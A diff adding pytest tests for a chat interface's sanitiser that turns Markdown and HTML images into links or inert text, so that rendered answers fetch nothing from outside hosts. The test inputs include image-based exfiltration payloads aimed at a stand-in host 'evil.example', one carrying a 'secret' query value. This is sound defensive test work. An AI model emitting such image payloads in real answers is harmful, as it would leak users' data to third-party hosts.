@@ -237,3 +237,33 @@ def test_a_remote_models_range_and_its_local_fallback(tiny_catalog_path, tmp_pat
     replies = list(chat.stream_reply(engine, "hello", None, "lab/off", "",
                                      chat.Sampling(temperature=0, max_new_tokens=1000)))
     assert replies[-1].model_id == "tiny/chat" and replies[-1].note  # answered, within the fallback's 410
+
+
+# -- chat Markdown draws no remote images ------------------------------------------------------------------------------
+@pytest.mark.parametrize(("sent", "shown"), [
+    ("![x](https://evil.example/p.png?q=secret)", "[x](https://evil.example/p.png?q=secret)"),
+    ("see ![logo][1]\n\n[1]: https://evil.example/l.png", "see [logo][1]\n\n[1]: https://evil.example/l.png"),
+    ('<img src="https://evil.example/a.png">', '<\u200bimg src="https://evil.example/a.png">'),
+    ("<IMG/SRC=https://e.example/a>", "<\u200bIMG/SRC=https://e.example/a>"),
+    ('<div style="background:url(https://e.example/b)">', '<\u200bdiv style="background:url(https://e.example/b)">'),
+    ("a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)",
+     "a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)"),
+])
+def test_chat_messages_fetch_nothing_when_drawn(sent, shown):
+    """An answer (or a history a client sends back) with Markdown or HTML images made every reader's browser
+    fetch from any host. The Chatbot now gets images as links and fetching tags as text."""
+    assert chat_tab.no_remote_images(sent) == shown
+    assert chat_tab._messages([{"role": "assistant", "content": sent}])[0]["content"] == shown
+
+
+def test_a_streamed_answer_is_drawn_without_images(engine, monkeypatch):
+    """Through the Chat tab's handler: every step it yields to the Chatbot has the images turned into links."""
+    def answer(*args, **kwargs):
+        for text in ("![a](https://evil.example/1.png)", "![a](https://evil.example/1.png) <img src=//e.example/2>"):
+            yield chat.Reply(text, "tiny/chat", 0)
+
+    monkeypatch.setattr(chat, "stream_reply", answer)
+    monkeypatch.setattr(chat, "code_snippet", lambda *a, **k: "")
+    steps = list(chat_tab.respond(engine, "![me](https://evil.example/me.png)", [], "", "", 0.7, 0.9, 16, 1.0))
+    drawn = [m["content"] for conversation, *_ in steps for m in conversation]
+    assert drawn and not any("![" in text or "<img" in text for text in drawn)
